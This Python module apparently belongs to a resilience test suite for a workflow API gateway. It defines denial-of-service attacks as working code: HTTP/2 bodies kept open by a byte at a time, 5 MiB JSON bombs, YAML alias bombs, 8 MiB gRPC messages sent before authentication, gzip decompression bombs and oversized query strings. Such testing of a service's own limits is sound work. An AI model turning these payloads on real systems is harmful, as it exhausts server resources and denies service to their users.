"""Bodies that never end, or that are far larger once they are read."""

import gzip
import socket

from .. import hpack
from ..attack import Attack, Probe, Target
from ..clients import Sent, repeat
from ..http2 import Connection, until

FIVE_MEBIBYTES = 5 * 1024 * 1024
GRPC = "application/grpc"


def trickling_bodies(target: Target, seconds: float) -> str:
    """260 events whose bodies never end, each kept alive by a byte now and then, with a token that anybody can write."""
    connection = Connection(target.port)
    path = f"/argo/direct/api/v1/events/{target.namespace}/x"
    streams = []
    try:
        for _ in range(260):
            streams.append(connection.open(hpack.request("POST", path, token="v2:made-up", content_type="application/json"), end=False))
        for _ in until(seconds):
            for stream in streams:
                connection.data(stream, b" ")
            if connection.wait(1):
                break
    except OSError:
        pass
    connection.close()
    return f"frames {dict(connection.frames)}, resets {dict(connection.resets)}"


def json_bombs(target: Target, seconds: float) -> str:
    """Bodies of 5 MiB of empty objects, four at a time, of a caller without any right."""
    body = bomb()
    return _posts(target, seconds, f"/api/v1/workflows/{target.namespace}/lint", body, {"content-type": "application/json"}, 4)


def own_json_bombs(target: Target, seconds: float) -> str:
    """The same for the gateway's own API."""
    path = f"/v1/environments/token-request/namespaces/{target.namespace}/workflows"
    return _posts(target, seconds, path, bomb()[:1_000_000], {"content-type": "application/json"}, 4)


def alias_bombs(target: Target, seconds: float) -> str:
    """YAML whose aliases multiply."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"] + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
    return _posts(target, seconds, "/v1/environments/token-request:lint", "\n".join(lines).encode(), {"content-type": "application/yaml"}, 4)


def unread_messages(target: Target, seconds: float) -> str:
    """70 streams that each send a message of 8 MiB, without a token."""
    return _messages(target, seconds, 70, b"\0" + (8_388_600).to_bytes(4, "big"), "identity")


def compressed_messages(target: Target, seconds: float) -> str:
    """Messages of some kilobytes that are gigabytes once they are inflated."""
    packed = gzip.compress(bytes(50_000_000), 9)
    return _messages(target, seconds, 50, b"\1" + len(packed).to_bytes(4, "big") + packed, "gzip")


def endless_queries(target: Target, seconds: float) -> str:
    """First lines of 8 kB of parameters, over HTTP/1.1 as fast as one client can."""
    return _posts(target, seconds, f"/api/v1/workflows/{target.namespace}?" + "a&" * 3_500, None, {}, 4, "GET")


def bomb() -> bytes:
    number = (FIVE_MEBIBYTES - 80) // 3
    return b'{"workflow":{"spec":[' + b",".join([b"{}"] * number) + b"]}}"


def _messages(target: Target, seconds: float, number: int, head: bytes, encoding: str) -> str:
    connection = Connection(target.port)
    block = hpack.request("POST", "/tiphys.v1.WorkflowService/GetWorkflow", content_type=GRPC, extra={"grpc-encoding": encoding})
    try:
        streams = [connection.open(block, end=False) for _ in range(number)]
        for stream in streams:
            connection.data(stream, head[:16_000])
        # More than the window of a connection allows: a server that collects what it is sent goes on taking it.
        for _ in until(seconds):
            for stream in streams:
                connection.data(stream, bytes(16_000))
            if connection.wait(0.05):
                break
    except (OSError, socket.timeout):
        pass
    connection.close()
    return f"frames {dict(connection.frames)}, resets {dict(connection.resets)}"


def _posts(target: Target, seconds: float, path: str, body: bytes | None, headers: dict[str, str], workers: int, method: str = "POST") -> str:
    sent = Sent(path, headers | {"authorization": f"Bearer {target.nobody}"}, method, body)
    return repeat(target.port, seconds, workers, lambda number: sent)


def _bomb_probe(target: Target) -> Probe:
    headers = {"authorization": f"Bearer {target.nobody}", "content-type": "application/json"}
    expected = {"SERVICE_ACCOUNT_USE_DENIED", "ACCESS_DENIED", "REQUEST_INVALID", "REQUEST_TOO_LARGE", "TOO_MANY_CALLS", "WORKFLOW_TOO_LARGE"}
    return Probe("POST", f"/api/v1/workflows/{target.namespace}/lint", headers, frozenset(expected), bomb())


ATTACKS = [
    Attack("260 bodies that trickle", "nothing", trickling_bodies),
    Attack("JSON of 1.7 million empty objects", "a token without a right", json_bombs, _bomb_probe),
    Attack("the same over /v1", "a token without a right", own_json_bombs),
    Attack("YAML with multiplying aliases", "a token without a right", alias_bombs),
    Attack("gRPC messages of 8 MiB before a token", "nothing", unread_messages),
    Attack("gRPC messages that inflate", "nothing", compressed_messages),
    Attack("queries of thousands of parameters", "a token without a right", endless_queries),
]
